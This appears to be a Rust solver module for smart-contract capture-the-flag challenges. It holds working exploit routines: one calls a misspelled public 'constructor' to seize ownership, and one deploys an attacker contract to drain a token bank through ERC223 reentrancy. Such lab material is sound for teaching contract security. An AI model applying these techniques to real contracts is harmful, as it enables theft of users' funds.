//! Miscellaneous levels.

use super::verify_complete;
use crate::{
    artifacts,
    runner::{confirm, Ctx},
    utils::ether,
};
use alloy_primitives::{Address, U256};
use alloy_sol_types::sol;
use eyre::{ensure, Result};
use tracing::info;

sol! {
    #[sol(rpc)]
    interface AssumeOwnershipChallenge {
        // The would-be constructor, misspelled and therefore public.
        function AssumeOwmershipChallenge() external;
        function authenticate() external;
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface TokenBankChallenge {
        function token() external view returns (address);
        function withdraw(uint256 amount) external;
        function balanceOf(address account) external view returns (uint256);
        function isComplete() external view returns (bool);
    }

    #[sol(rpc)]
    interface SimpleERC223Token {
        function transfer(address to, uint256 value) external returns (bool);
        function balanceOf(address account) external view returns (uint256);
    }

    #[sol(rpc)]
    interface TokenBankAttacker {
        function deposit() external;
        function attack() external;
    }
}

/// The "constructor" is misspelled (`Owmership`), so it compiled as a plain
/// public function anyone may call to become owner.
pub async fn assume_ownership(ctx: &Ctx, target: Address) -> Result<()> {
    let challenge = AssumeOwnershipChallenge::new(target, &ctx.provider);
    confirm(challenge.AssumeOwmershipChallenge().send().await?).await?;
    confirm(challenge.authenticate().send().await?).await?;
    verify_complete(challenge.isComplete().call().await?)
}

/// The bank zeroes the depositor's balance only after `token.transfer`, and
/// the ERC223 transfer hands control to the recipient via `tokenFallback`:
/// a contract recipient can re-enter `withdraw` before the bookkeeping
/// catches up and drain the bank.
pub async fn token_bank(ctx: &Ctx, target: Address) -> Result<()> {
    let amount = ether(500_000);

    let challenge = TokenBankChallenge::new(target, &ctx.provider);
    let token_addr = challenge.token().call().await?;
    let token = SimpleERC223Token::new(token_addr, &ctx.provider);

    let attacker_addr = artifacts::deploy_helper(
        &ctx.provider,
        &ctx.artifacts,
        "TokenBankAttacker",
        target,
        U256::ZERO,
    )
    .await?;
    info!(attacker = %attacker_addr, token = %token_addr, "deployed attacker");

    // Route the player's bank deposit through the attacker contract:
    // bank -> player -> attacker -> bank.
    confirm(challenge.withdraw(amount).send().await?).await?;
    confirm(token.transfer(attacker_addr, amount).send().await?).await?;
    confirm(TokenBankAttacker::new(attacker_addr, &ctx.provider).deposit().send().await?)
        .await?;

    let deposited = challenge.balanceOf(attacker_addr).call().await?;
    ensure!(deposited == amount, "attacker deposit not credited: {deposited}");

    confirm(TokenBankAttacker::new(attacker_addr, &ctx.provider).attack().send().await?)
        .await?;
    verify_complete(challenge.isComplete().call().await?)
}
